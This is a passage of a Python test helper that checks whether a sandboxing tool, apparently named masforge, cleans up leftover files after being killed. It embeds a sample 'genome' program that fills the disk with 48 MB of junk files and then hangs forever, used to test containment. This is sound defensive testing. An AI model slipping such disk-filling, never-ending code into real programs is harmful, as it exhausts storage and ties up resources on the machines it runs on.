inputs: [question]
outputs: [answer]
"""


def forward(inputs):
    import time

    block = b"x" * (1 << 20)
    for i in range(48):
        with open(f"fill-{i}", "wb") as fh:
            fh.write(block)
    open("filled", "w").close()
    while True:
        time.sleep(0.05)
'''


def _run_dir_bytes(pid: int) -> int:
    """Bytes in host run folders named after masforge process ``pid``."""
    total = 0
    base = tempfile.gettempdir()
    for entry in os.scandir(base):
        if entry.name.startswith(f"masforge-sbx-{pid}-"):
            for root, _, files in os.walk(entry.path):
                for name in files:
                    try:
                        total += os.lstat(os.path.join(root, name)).st_size
                    except OSError:
                        pass
    return total


@dataclass
class LeftoverOutcome:
    """One SIGKILL of ``masforge evaluate`` while its sandbox filled its run directory."""

    written: int
    """Bytes the sandbox had written to folders of the host's temp folder when masforge was killed."""
    after_next_start: int
    """Of those, bytes still there after the next start of masforge."""


def leftover_after_kill(workdir: str, *, env: dict[str, str] | None = None, wait_s: float = 90.0) -> LeftoverOutcome:
    """Start ``masforge evaluate`` on `FILLER_GENOME`, SIGKILL it once the sandbox has written its 48 MB, start
    masforge again (its sandbox start-up) and measure what is left in the host's temp folder. With bubblewrap the
    run directory is in the sandbox's private /tmp: nothing reaches the host at all."""
    import subprocess
    import sys

    genome = os.path.join(workdir, "disk_filler.py")
    with open(genome, "w", encoding="utf-8") as fh:
        fh.write(FILLER_GENOME)
    full_env = {**os.environ, **(env or {})}
    command = [sys.executable, "-m", "masforge", "evaluate", genome, "--task", "rg:basic_arithmetic", "--lm", "fake",
               "--limit", "1", "--no-cache"]
    proc = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            env=full_env, cwd=workdir, start_new_session=True)
    try:
        deadline = time.monotonic() + wait_s
        while proc.poll() is None and time.monotonic() < deadline:
            busy = [p for p in descendants(proc.pid) if "_sandbox_child.py" in _cmdline(p)]
            if busy and (_run_dir_bytes(proc.pid) >= 48 << 20 or time.monotonic() > deadline - wait_s / 2):
                time.sleep(0.5)  # the file system view of bubblewrap shows nothing here: give it time to write
                break
            time.sleep(0.1)
        written = _run_dir_bytes(proc.pid)
        os.kill(proc.pid, 9)
        proc.wait()
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    time.sleep(1.0)  # the sandbox notices its parent is gone and exits
    subprocess.run([sys.executable, "-c", "from masforge.sandbox.isolation import isolation; isolation()"],
                   env=full_env, cwd=workdir, capture_output=True, timeout=120, check=False)
    return LeftoverOutcome(written, _run_dir_bytes(proc.pid))
